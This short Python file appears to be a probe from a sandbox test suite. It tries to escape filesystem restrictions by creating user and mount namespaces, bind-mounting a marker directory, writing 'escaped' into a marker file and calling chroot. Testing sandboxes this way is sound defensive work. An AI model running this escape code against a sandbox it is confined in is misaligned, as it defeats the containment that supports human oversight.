"""Create namespaces and mount things to get around the filesystem rules."""
import ctypes
import os


def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    out = []
    r = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    out.append(f"unshare {r} errno {ctypes.get_errno()}")
    os.makedirs("mnt", exist_ok=True)
    target = os.path.dirname(ctx["markers"]["tmp"])
    r = libc.mount(target.encode(), b"mnt", None, 4096, None)  # MS_BIND
    out.append(f"mount {r} errno {ctypes.get_errno()}")
    try:
        open("mnt/" + os.path.basename(ctx["markers"]["tmp"]), "w").write("escaped")
    except OSError as exc:
        out.append(repr(exc))
    r = libc.chroot(b"/")
    out.append(f"chroot {r}")
    return out
